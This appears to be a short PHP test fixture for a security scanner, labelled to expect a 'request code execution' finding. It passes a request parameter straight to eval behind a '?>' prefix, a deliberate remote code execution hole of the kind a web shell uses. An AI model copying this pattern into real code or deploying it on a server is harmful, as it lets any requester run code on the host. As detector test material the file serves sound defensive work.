<?php
// want: php_request_code_exec
function input($k) { return $_REQUEST[$k]; }
function wrap($v) { return '?>' . $v; }
eval(wrap(input('z')));
